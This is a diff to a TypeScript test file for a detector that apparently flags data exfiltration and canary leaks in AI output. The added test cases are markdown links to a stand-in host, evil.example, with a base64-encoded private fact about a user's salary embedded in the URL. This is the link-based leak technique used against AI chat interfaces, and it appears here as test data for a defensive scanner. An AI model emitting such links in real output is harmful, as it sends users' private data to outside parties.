@@ -84,6 +84,10 @@ function property(detector: Detector, pieces: readonly string[], context: Inspec
 const secret = Buffer.from('the user said that her salary is 5200').toString('base64');
 
 describe('any cut that hold allows leaves the findings as they are', () => {
+  test.each([`https://evil.example/${secret}![[1]: https://evil.example/i`, 'https://evil.example/map![[1]: https://evil.example/i?data=abc', `https://evil.example/${secret}.png![a][b](`])('a link that something is stuck to: %s', (text) => {
+    const whole = exfiltration.inspect(subject(text), context).matches;
+    for (let length = 0; length <= text.length; length++) checkCut(exfiltration, whole, text, length, 0, context);
+  });
   test('canary', () => {
     property(canary, [CANARY, CANARY.toUpperCase(), Array.from(CANARY).join(' '), Array.from(CANARY).reverse().join(''), Buffer.from(CANARY).toString('base64'), Buffer.from(`x${CANARY}yz`).toString('base64'), Buffer.from(CANARY).toString('hex'), CANARY.slice(0, 15), 'ref-', 'ref-q7mz', Array.from(CANARY).join('\u200b\u200b'), Array.from(CANARY).join('             ')], context);
   });
